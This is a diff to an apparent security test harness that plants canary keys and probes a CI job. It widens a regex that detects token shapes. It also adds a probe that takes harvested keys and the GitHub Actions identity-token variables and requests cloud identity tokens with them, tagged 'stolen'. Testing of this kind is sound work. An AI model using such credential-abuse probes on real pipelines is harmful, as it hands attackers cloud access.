@@ -4,7 +4,7 @@ import { tmpdir, userInfo } from 'node:os'
 import { dirname, join } from 'node:path'
 
 /** Keys as the stand-in makes them and as the test plants them; nobody else's have this shape. */
-const SHAPES = /CANARY_[A-Z]+_[0-9a-f]{24}|gh[ps]_[0-9a-f]{36}|runtime-[0-9a-f]{32}/g
+const SHAPES = /CANARY_[A-Z]+_[0-9a-f]{24}|gh[ps]_[0-9a-f]{36}|eyJ[\w-]+\.eyJ[\w-]+\.[0-9a-f-]{36}/g
 
 /** The keys in a text, also where they stand in base64. */
 export function keysIn(text) {
@@ -210,6 +210,16 @@ export const looking = {
       () => null,
     )
     note({ api: answer?.status ?? 0, token: token !== undefined })
+  },
+  /** The job has `id-token: write`: who asks as the job gets a key of its cloud. */
+  async 'use.identity'({ plan, loot, note }) {
+    const { ACTIONS_ID_TOKEN_REQUEST_URL: url = plan.identity, ACTIONS_ID_TOKEN_REQUEST_TOKEN: token } =
+      process.env
+    for (const key of ['', ...loot, ...(token === undefined ? [] : [token])]) {
+      const headers = { authorization: `Bearer ${key}` }
+      const answer = await fetch(`${url}&audience=stolen`, { headers }).catch(() => null)
+      note({ api: answer?.status ?? 0 })
+    }
   },
 }
 
